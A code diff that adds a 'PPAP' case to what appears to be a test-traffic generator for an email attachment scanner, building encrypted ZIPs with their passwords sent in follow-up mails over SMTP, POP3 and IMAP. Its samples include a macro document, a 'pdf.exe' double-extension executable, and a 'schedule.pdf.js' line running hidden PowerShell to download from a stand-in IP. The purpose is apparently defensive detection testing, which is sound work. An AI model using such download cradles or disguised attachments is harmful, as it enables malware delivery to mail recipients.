@@ -818,9 +818,66 @@ def case_password():
     return g, atts
 
 
+def case_ppap():
+    """Encrypted ZIPs whose password follows in a second mail from the same sender (the
+    Japanese "PPAP" habit), delivered by SMTP and retrieved by POP3."""
+    g = Gen(83)
+    r = g.rng
+    mt = (2024, 4, 22, 17, 48, 6)
+    later = "\u30d1\u30b9\u30ef\u30fc\u30c9\u306f\u5225\u30e1\u30fc\u30eb\u3067\u304a\u9001\u308a\u3057\u307e\u3059\u3002\n"
+    pw_word = "\u30d1\u30b9\u30ef\u30fc\u30c9"  # "password"
+    notice = "\u30d1\u30b9\u30ef\u30fc\u30c9\u306e\u304a\u77e5\u3089\u305b"  # password notice
+    atts = []
+
+    def pair(frm, to, subject, name, inner, password):
+        z = pg.zip_archive(inner, password=password, rng=r, mtime=mt)
+        files = [(name, "application/zip", z)]
+        atts.extend(files)
+        first = message(r, frm, to, subject, "\u6dfb\u4ed8\u3092\u3054\u78ba\u8a8d\u304f\u3060\u3055\u3044\u3002\n" + later,
+                        files)
+        second = message(r, frm, to, notice, "%s\uff1a%s\n" % (pw_word, password), [])
+        return first, second
+
+    # 1. an order form with macros, its password in the next SMTP connection
+    m1, p1 = pair("order@partner-j.example", "yamada@" + DOMAIN, "Order form",
+                  "chumon_0611.zip", [("chumon_0611.doc", doc_with_macros(r))], "Ha7-wq3T")
+    g.smtp("198.51.100.81", "mx.partner-j.example", "order@partner-j.example",
+           ["yamada@" + DOMAIN], [m1])
+    g.smtp("198.51.100.81", "mx.partner-j.example", "order@partner-j.example",
+           ["yamada@" + DOMAIN], [p1])
+    # 2. the same habit with a harmless file, both messages in one connection: opened, quiet
+    m2, p2 = pair("eigyo@partner-j.example", "yamada@" + DOMAIN, "Quotation",
+                  "mitsumori_0612.zip", [("mitsumori_0612.pdf", PDF)], "Pq4-Zx8m")
+    g.smtp("198.51.100.81", "mx.partner-j.example", "eigyo@partner-j.example",
+           ["yamada@" + DOMAIN], [m2, p2])
+    # 3. the right password from another sender opens nothing
+    m3, _ = pair("billing@partner-k.example", "kimura@" + DOMAIN, "Invoice",
+                 "seikyu_0613.zip", [("seikyu_0613.xlsm", xlsm(r))], "Lm2-Kd9v")
+    p3 = message(r, "info@other-l.example", "kimura@" + DOMAIN, notice,
+                 "%s\uff1aLm2-Kd9v\n" % pw_word, [])
+    g.smtp("198.51.100.82", "mx.partner-k.example", "billing@partner-k.example",
+           ["kimura@" + DOMAIN], [m3])
+    g.smtp("198.51.100.83", "mx.other-l.example", "info@other-l.example",
+           ["kimura@" + DOMAIN], [p3])
+    # 4. a PC fetches an archive and its password mail by POP3
+    m4, p4 = pair("keiri@partner-m.example", "inoue@" + DOMAIN, "Invoice 0613",
+                  "invoice_0613.zip", [("invoice_0613.pdf.exe", pg.pe_executable(r, size=4096))],
+                  "Rt5-Wn2e")
+    g.pop3("192.168.10.31", "inoue", [m4, p4])
+    # 5. and by IMAP, the password this time in the subject as well (not shown then)
+    m5, _ = pair("soumu@partner-n.example", "ueda@" + DOMAIN, "Schedule",
+                 "schedule.zip", [("schedule.pdf.js", b"var s=new ActiveXObject('WScript.Shell');"
+                                   b"s.Run('powershell -w hidden -c iwr http://203.0.113.9/a');")],
+                 "Vb8-Ns1k")
+    p5 = message(r, "soumu@partner-n.example", "ueda@" + DOMAIN, "PW: Vb8-Ns1k",
+                 "%s\uff1aVb8-Ns1k\n" % pw_word, [])
+    g.imap("192.168.10.32", "ueda", [m5, p5])
+    return g, atts
+
+
 CASES = {"office": case_office, "exec": case_exec, "containers": case_containers,
          "http": case_http, "benign": case_benign, "xlm": case_xlm, "active": case_active,
-         "password": case_password, "dde": case_dde}
+         "password": case_password, "dde": case_dde, "ppap": case_ppap}
 
 
 # ----------------------------------------------------------------------------- fuzz seeds
